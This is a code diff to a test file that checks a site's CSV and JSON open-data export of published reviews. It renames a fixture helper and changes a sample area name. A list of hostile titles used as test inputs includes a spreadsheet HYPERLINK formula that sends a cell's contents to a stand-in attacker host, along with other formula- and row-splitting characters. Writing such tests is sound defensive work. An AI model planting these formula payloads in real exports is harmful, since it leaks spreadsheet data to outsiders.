@@ -3,16 +3,16 @@ import { describe, expect, it } from "vitest";
 import { buildCatalogue } from "../../../src/catalogue/index.ts";
 import { CSV_COLUMNS, openDataCsv, openDataJson } from "../../../src/catalogue/open-data.ts";
 import type { SiteSettings } from "../../../src/content/site-settings.ts";
-import { sampleSite } from "../../helpers/site.ts";
+import { fixtureSite } from "../../helpers/site.ts";
 import { type Review } from "../../../src/model/review.ts";
 
-const site = sampleSite() as unknown as SiteSettings;
+const site = fixtureSite() as unknown as SiteSettings;
 
 /** Titles a spreadsheet would run as a formula, or that would split a row if written bare. */
 const HOSTILE_TITLES = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1", "-2", "@x", "\tx", "\rx", "a\nb", "a\rb", 'a\r\nb', '"quoted, comma"', "Child A"];
 
 function review(i: number, title: string, fields: Partial<Review> = {}): Review {
-  return { id: `review-${i}`, title, type: "CSPR", area: "blackpool", status: "published", published: "2025-01-01", themes: [], documents: [], ...fields };
+  return { id: `review-${i}`, title, type: "CSPR", area: "northshire", status: "published", published: "2025-01-01", themes: [], documents: [], ...fields };
 }
 
 describe("/reviews.csv", () => {
